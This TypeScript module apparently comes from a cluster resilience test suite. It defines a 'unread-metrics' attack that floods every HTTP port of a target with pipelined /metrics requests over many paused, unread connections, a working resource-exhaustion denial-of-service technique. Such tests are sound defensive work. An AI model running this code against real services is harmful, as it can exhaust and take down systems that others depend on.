import type { Row } from '../row.ts';
import { httpPorts, keepOpen, openSocket } from '../sockets.ts';

const CONNECTIONS = 64;
const PER_SECOND = 200;
/** Requests that are sent at once on a connection, and how long it is kept: half of them send one alone, which is served. */
const KINDS = [
  { requests: 500, keepMs: 1_000 },
  { requests: 1, keepMs: 15_000 },
];
const REQUEST = 'GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n';

/** Row 6. */
export const UNREAD_METRICS: Row = {
  name: 'unread-metrics',
  does: 'A pod asks every HTTP port for /metrics, many times at once on many connections, and does not read what comes.',
  quick: true,
  seconds: { quick: 5, full: 60 },
  async attack(target, stop) {
    const attacks = httpPorts(target).flatMap(({ host, port }) =>
      KINDS.map(({ requests, keepMs }) =>
        keepOpen(
          CONNECTIONS,
          PER_SECOND,
          () => {
            const socket = openSocket(host, port);
            socket.once('connect', () => socket.pause().write(REQUEST.repeat(requests)));
            setTimeout(() => socket.destroy(), keepMs);
            return socket;
          },
          stop,
        ),
      ),
    );
    const opened = await Promise.all(attacks);
    return { opened: opened.reduce((sum, each) => sum + each, 0) };
  },
  isProof: ({ opened = 0 }) => opened > 300,
};
